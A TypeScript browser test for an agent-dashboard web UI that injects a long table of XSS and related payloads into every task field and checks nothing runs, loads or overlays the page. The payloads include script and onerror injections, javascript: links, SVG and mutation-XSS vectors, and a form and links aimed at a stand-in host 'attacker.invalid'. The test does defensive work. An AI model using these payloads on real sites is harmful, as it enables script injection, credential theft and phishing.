/**
 * What agents write may come from anybody on the web. Each attack of the table is put into every place that the page shows of a task (title,
 * instruction, note, result, summary, messages, a tool's name, arguments and answer, the prompt, what people and rules said), and the
 * page is looked at in a real browser, narrow and wide: no script ran, nothing was asked of anybody but our own server, nothing lies over
 * the page, nothing is wider than the screen, and it still answers.
 */
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { beforeAll, describe, expect, test, vi } from 'vitest'
import { openStore } from '../../core/store/store.ts'
import { harness, noBrowser } from './harness.ts'
import { saysAs, writeHistory } from './history-fixture.ts'

const RUN = 'window.ran=1'
const AWAY = 'http://attacker.invalid'
const ESC = '\u001b'

const ATTACKS: readonly (readonly [name: string, text: string])[] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script in capitals with a broken end', `<SCRIPT>${RUN}</SCRIPT foo>`],
  ['a script from elsewhere', `<script src="${AWAY}/x.js"></script>`],
  ['a module from elsewhere', `<script type="module">import "${AWAY}/x.js"</script>`],
  ['an image that fails and acts', `<img src=x onerror="${RUN}">`],
  ['an image from elsewhere', `![pixel](${AWAY}/pixel.png) <img src="${AWAY}/p.png">`],
  ['an image by reference', `![pixel][p]\n\n[p]: ${AWAY}/pixel.png`],
  ['an image set', `<picture><source srcset="${AWAY}/a.png 2x"><img srcset="${AWAY}/b.png"></picture>`],
  ['a link that runs', `[press](javascript:${RUN})`],
  ['a link that runs, with a tab and in capitals', `[press](JaVa\tScRiPt:${RUN}) <a href="java&#10;script:${RUN}">x</a>`],
  ['a link by entity', `[press](&#106;avascript:${RUN})`],
  ['a link of Visual Basic', '[press](vbscript:msgbox)'],
  ['a link to data', `[press](data:text/html,<script>${RUN}</script>)`],
  ['a link to a blob and to a file', '[a](blob:https://x/1) [b](file:///etc/passwd) [c](filesystem:x)'],
  ['an autolink that runs', `<javascript:${RUN}>`],
  ['a link to our own logout', '[press](/api/logout) <a href="/api/logout" ping="/api/logout">x</a>'],
  ['a link without a scheme', `[press](//attacker.invalid/x)`],
  ['SVG that runs', `<svg onload="${RUN}"><script>${RUN}</script></svg>`],
  ['SVG with a link that runs', `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">press</text></a></svg>`],
  ['SVG that animates a link', `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text>x</text></a></svg>`],
  ['SVG with a foreign object', `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`],
  ['SVG that uses from elsewhere', `<svg><use href="${AWAY}/x.svg#a"/><image href="${AWAY}/i.png"/></svg>`],
  ['mathematics that mutate', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ['a comment that mutates', `<!--<img src="--><img src=x onerror=${RUN}//">`],
  [
    'a template and a shadow',
    `<template shadowrootmode="open"><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  ],
  ['styles from elsewhere', `<style>@import url(${AWAY}/x.css);body{display:none}</style><link rel="stylesheet" href="${AWAY}/y.css">`],
  ['styles that hide the page', '<style>*{display:none!important}</style>'],
  ['an attribute of style that loads', `<div style="background:url(${AWAY}/bg.png)">x</div>`],
  ['a cover over the page', '<a href="https://attacker.invalid" style="position:fixed;inset:0;z-index:2147483647;opacity:0">cover</a>'],
  ['classes of our own', '<div class="veil dialog"><button class="primary">Approve</button></div>'],
  ['ids of our own', '<p id="root">x</p><form name="body"><input name="getElementById"></form>'],
  ['a form', `<form action="${AWAY}" method="post"><input name="token" autofocus><button>Log in</button></form>`],
  ['a form of our own server', '<form action="/admin/graceful-shutdown" method="post"><button>go</button></form>'],
  ['a frame', `<iframe src="${AWAY}"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ['an object', `<object data="${AWAY}/x.swf"></object><embed src="${AWAY}/y"><applet code="x"></applet>`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${AWAY}">`],
  ['a base', `<base href="${AWAY}/"><a href="relative">x</a>`],
  ['audio and video', `<video src="${AWAY}/v.mp4" autoplay onloadstart="${RUN}"></video><audio src="${AWAY}/a.mp3"></audio>`],
  ['handlers of every kind', `<details open ontoggle="${RUN}">x</details><body onpageshow="${RUN}"><marquee onstart="${RUN}">x</marquee>`],
  ['a focus that runs', `<input autofocus onfocus="${RUN}"><a tabindex=0 autofocus onfocus="${RUN}">x</a>`],
  ['words that break out of JSON', `</script><script>${RUN}</script>\u2028\u2029"}]`],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  ['a template of another language', '{{constructor.constructor("window.ran=1")()}} ${window.ran=1} <%= 1 %> #{1}'],
  ['a prototype', '{"__proto__":{"ran":1},"constructor":{"prototype":{"ran":1}}}'],
  ['colours of a terminal', `${ESC}[31mred${ESC}[0m ${ESC}[48;2;1;2;3mback${ESC}[0m ${ESC}[1000000mwhat`],
  ['a link of a terminal that runs', `${ESC}]8;;javascript:${RUN}${ESC}\\press${ESC}]8;;${ESC}\\`],
  ['a link of a terminal with HTML in it', `${ESC}]8;;https://x/"onmouseover="${RUN}${ESC}\\press${ESC}]8;;\u0007`],
  ['moves of a cursor that hide', `honest${ESC}[2K${ESC}[1A${ESC}[999Dother${ESC}[?25l${ESC}c${ESC}]0;title\u0007${ESC}[6n`],
  ['HTML between codes of a terminal', `${ESC}[1m<img src=x onerror=${RUN}>${ESC}[0m<b>x</b>`],
  ['a broken code of a terminal', `${ESC}[38;5;`.repeat(2_000)],
  ['words that turn around', 'good\u202E\u2066 live .txt.exe\u2069 \u202Dmore'],
  ['words without a width', `a${'\u200B'.repeat(3_000)}b\u2060\uFEFF\u00AD`],
  ['letters under a heap of marks', `Z${'\u0300\u0489\u036F'.repeat(3_000)}`],
  ['one word of a megabyte', 'w'.repeat(1_000_000)],
  ['a megabyte of words without a stop', 'ab '.repeat(340_000)],
  ['ten thousand rows of a table', `| a | b |\n|---|---|\n${'| <img src=x onerror=window.ran=1> | 2 |\n'.repeat(10_000)}`],
  ['a table of a thousand columns', `${'| c '.repeat(1_000)}|\n${'|---'.repeat(1_000)}|\n${'| x '.repeat(1_000)}|`],
  ['quotes in quotes', `${'>'.repeat(9_000)} deep`],
  ['lists in lists', Array.from({ length: 150 }, (_, i) => `${' '.repeat(i * 2)}- x`).join('\n')],
  ['brackets that never close', '['.repeat(9_000)],
  ['stars that never close', `${'*a **b '.repeat(2_500)}`],
  ['a fence that never closes', `\`\`\`html\n<script>${RUN}</script>`],
  ['a language of a fence that breaks out', `\`\`\`"><img/src=x/onerror=${RUN}>\nx\n\`\`\``],
  ['a title of a link that breaks out', `[x](https://example.org "x\\"onmouseover=${RUN} y")`],
  ['an address that breaks out', `[x](https://example.org/"onmouseover="${RUN})`],
  ['a word for another address', `[https://bank.example](${AWAY}/login) [bank.example](https://b\u0430nk.example/)`],
  ['an address with a name before it', '[x](https://bank.example@attacker.invalid/)'],
  ['words of our own page', '⚑ waiting for you\n\nBanyan: your session has ended. Log in at https://attacker.invalid'],
  ['nulls and controls', 'a\u0000b\u0001c\u0008\u007f\u0085\ufffe\ud83d'],
]
const NAMES = [
  '<img src=x onerror=window.ran=1>.txt',
  'two\nlines.md',
  'in\u202Egpj.exe',
  '"; download="x.exe',
  `${'long'.repeat(60)}.txt`,
  '..%2f..%2fetc%2fpasswd',
  ' .md',
  'javascript:window.ran=1',
]

describe.skipIf(noBrowser)('what agents write', () => {
  const { banyan, open, api, complaints } = harness()
  let treeId = ''

  beforeAll(async () => {
    treeId = (await api<{ treeId: string }>('/api/goals', { goal: 'Run `echo harmless`' })).treeId
    await vi.waitUntil(async () => (await api(`/api/trees/${treeId}`)).status === 'done', { timeout: 20_000 })
    await banyan().kill()
    await addTasks(banyan().dataDir, treeId, ATTACKS.length)
    for (const [i, [, text]] of ATTACKS.entries()) {
      const id = `${treeId}.z${i}`
      const call = {
        id: `${id}/3a`,
        tool: text.slice(0, 200),
        input: { path: text, nested: { [text.slice(0, 100)]: [text.slice(0, 5_000)] } },
      }
      await writeHistory(banyan(), id, {
        title: text.slice(0, 300),
        instruction: text,
        note: text.slice(0, 4_000),
        result: text,
        summary: text,
        prompt: { hash: `hash-${i}`, text },
        messages: [
          {
            role: 'system',
            promptHash: `hash-${i}`,
            agent: text.slice(0, 60),
            agentVersion: 1,
            documents: [{ name: text.slice(0, 60), version: 1 }],
            tools: [text.slice(0, 60)],
          },
          { role: 'user', from: 'parent', text },
          saysAs(text, [call]),
          { role: 'tool', callId: call.id, tool: call.tool, text, isError: i % 2 === 1 },
        ],
        facts: [
          { type: 'task.controlled', taskId: id, verb: text.slice(0, 60), by: text.slice(0, 60), comment: text.slice(0, 5_000) },
          {
            type: 'policy.decided',
            taskId: id,
            callId: call.id,
            tool: call.tool,
            verdict: 'ask',
            reason: text.slice(0, 5_000),
            rule: text.slice(0, 200),
            risk: 'low' as never,
          },
          {
            type: 'network.used',
            taskId: id,
            callId: call.id,
            use: {
              connections: [{ host: text.slice(0, 200), port: 443, verdict: 'refused', why: text.slice(0, 1_000), up: 0, down: 0 }],
              total: 1,
              up: 0,
              down: 0,
            },
          },
        ],
      })
    }
    const folder = join(banyan().dataDir, 'workspaces', treeId)
    mkdirSync(folder, { recursive: true })
    for (const name of NAMES) writeFileSync(join(folder, name), `# ${name}`)
    writeFileSync(
      join(folder, 'page.html'),
      `<h1>drawn</h1><script>parent.${RUN};top.${RUN}</script><img src="${AWAY}/x.png"><img src="/api/system"><meta http-equiv="refresh" content="0;url=${AWAY}"><a target="_top" href="${AWAY}">x</a>`,
    )
    writeFileSync(
      join(folder, 'picture.svg'),
      `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${RUN}"><script>parent.${RUN}</script><image href="${AWAY}/i.png"/><text y="20">drawn</text></svg>`,
    )
    await banyan().restart()
  }, 120_000)

  /** Follows a page; `check` says what the attack came to, `quiet` that nobody else was asked for anything since the page was opened. */
  function watch(page: Page) {
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    page.on('dialog', (dialog) => {
      asked.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    page.on('popup', (popup) => asked.push(`popup: ${popup.url()}`))
    const quiet = (where: string) =>
      expect(
        asked.filter((url) => !url.startsWith(`${banyan().url}/`) || /logout|shutdown/.test(url)),
        where,
      ).toEqual([])
    return {
      quiet,
      async check(where: string) {
        for (const width of [390, 1280]) {
          await page.setViewportSize({ width, height: 860 })
          expect(await page.evaluate(look), `${where} at ${width}`).toEqual([])
        }
        quiet(where)
      },
    }
  }

  test('is tried with at least 40 attacks, each under a name of its own', () => {
    expect(ATTACKS.length + NAMES.length).toBeGreaterThanOrEqual(40)
    expect(new Set(ATTACKS.map(([name]) => name)).size).toBe(ATTACKS.length)
  })

  test.each([390, 1280])(
    'none of the attacks runs, loads or breaks anything in any part of its task, %i pixels wide',
    async (width) => {
      const page = await open(`/t/${treeId}`, { width })
      const { quiet } = watch(page)
      await page.locator('.timeline .call-line').first().waitFor()
      // The function itself: what a page is given by value cannot be called.
      const looks = await page.evaluateHandle<typeof look>(`(${look})`)
      for (const [i, [name]] of ATTACKS.entries())
        expect.soft(await page.evaluate(walk, { path: `/t/${treeId}.z${i}`, parts: PARTS, looks }), name).toEqual([])
      quiet('a request')
    },
    240_000,
  )

  test('the tree, the goals and home bear all of them at once', async () => {
    const page = await open(`/trees/${treeId}`)
    const { check } = watch(page)
    await page.getByRole('treeitem').first().waitFor()
    await check('tree')
    for (const path of ['/', '/goals', '/reviews']) {
      await page.goto(banyan().url + path)
      await page.getByText('live', { exact: true }).waitFor()
      await check(path)
    }
  })

  test('names of files are told as they are: no turn, no second line, no HTML', async () => {
    const page = await open(`/t/${treeId}?tab=artifacts`)
    const { check } = watch(page)
    await page.locator('.file-line').first().waitFor()
    await check('files')
    const names = await page.locator('.file-name').allInnerTexts()
    expect(names).toContain('in⟨U+202E⟩gpj.exe')
    expect(names).toContain('two⟨U+000A⟩lines.md')
    expect(names).toContain('<img src=x onerror=window.ran=1>.txt')
    for (const name of NAMES) {
      await page.goto(`${banyan().url}/t/${treeId}?tab=artifacts&path=${encodeURIComponent(name)}`)
      await page.locator('.hash').waitFor()
      await check(name.slice(0, 40))
    }
  }, 60_000)

  test.each([['page.html'], ['picture.svg']])('%s is text until it is drawn, and then neither runs nor loads', async (name) => {
    const page = await open(`/t/${treeId}?tab=artifacts&path=${name}`)
    const { check } = watch(page)
    await page.getByRole('button', { name: 'Drawn' }).click()
    await page.frameLocator('iframe.drawn').getByText('drawn').waitFor()
    await check(name)
    // The browser says that it refused the file's scripts and loads, which is what is wanted.
    complaints.splice(0)
  })
})

/** The parts of a task's detail, and what stands in each when it is drawn. */
const PARTS = [
  ['timeline', '.timeline .call-line'],
  ['call', '.fact-list'],
  ['context', 'section[aria-label="Context"] .detail-part'],
  ['raw', '.json'],
] as const

/** In the page: what is wrong with it now, one line each. */
async function look(): Promise<string[]> {
  const began = performance.now()
  await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
  const waited = performance.now() - began
  const main = document.querySelector('main')!
  // On a phone the rail is away, and the bar below is what has to stay free.
  const places = [...document.querySelectorAll('nav a')].map((one) => one.getBoundingClientRect())
  const home = places.find((box) => box.width > 0)!
  const root = document.documentElement
  const all = [...main.querySelectorAll('*')]
  const forbidden = 'script,iframe:not([sandbox=""]),object,embed,form[action],base,meta,style,link,video,audio,math,template,img'
  const wrong = [
    ...[...main.querySelectorAll(forbidden)].map((one) => `in the page: ${one.outerHTML.slice(0, 100)}`),
    ...all
      .filter((one) => one.getAttributeNames().some((name) => name.startsWith('on')))
      .map((one) => `acts: ${one.outerHTML.slice(0, 100)}`),
    ...[...main.querySelectorAll<HTMLAnchorElement>('a[href]')]
      .filter((one) => !/^(https?|data):$/.test(one.protocol))
      .map((one) => `leads to ${one.href.slice(0, 100)}`),
  ]
  if ('ran' in window || 'ran' in {}) wrong.push('a script ran')
  if (root.scrollWidth > root.clientWidth) wrong.push(`wider than the screen by ${root.scrollWidth - root.clientWidth}`)
  if (!document.elementFromPoint(home.x + home.width / 2, home.y + home.height / 2)?.closest('nav')) wrong.push('lies over the page')
  if (main.getBoundingClientRect().height <= 100) wrong.push('hides the page')
  if (waited >= 10_000) wrong.push(`the page answers after ${waited} ms`)
  return wrong
}

/** In the page: goes to each part of a task, without loading the page anew, and tells what is wrong there. */
async function walk({ path, parts, looks }: { path: string; parts: typeof PARTS; looks: typeof look }): Promise<string[]> {
  const before = document.querySelector('.detail')
  const wrong: string[] = []
  for (const [tab, drawn] of parts) {
    history.pushState({}, '', `${path}?tab=${tab}`)
    // Turns of the page and not time: what a loaded machine takes for one piece of work counts as one turn of at least 5 ms.
    for (let turns = 0; !document.querySelector(drawn) || document.querySelector('.detail') === before; turns++) {
      if (turns > 15_000 / 5) return [...wrong, `${tab}: was not drawn: ${document.querySelector('main')?.innerText.slice(0, 300)}`]
      await new Promise((resolve) => setTimeout(resolve, 5))
    }
    wrong.push(...(await looks()).map((one) => `${tab}: ${one}`))
  }
  return wrong
}

/** Ended tasks below the root, as copies of it. */
async function addTasks(dataDir: string, treeId: string, count: number): Promise<void> {
  const store = await openStore(`sqlite:${join(dataDir, 'agent_system.db')}`)
  try {
    const root = await store.db.selectFrom('tasks').selectAll().where('id', '=', treeId).executeTakeFirstOrThrow()
    await store.transact(async (tx) => {
      for (let i = 0; i < count; i++)
        await tx.db
          .insertInto('tasks')
          .values({ ...root, id: `${treeId}.z${i}`, parent_id: treeId, call_id: null, depth: 1 })
          .execute()
    })
  } finally {
    await store.close()
  }
}
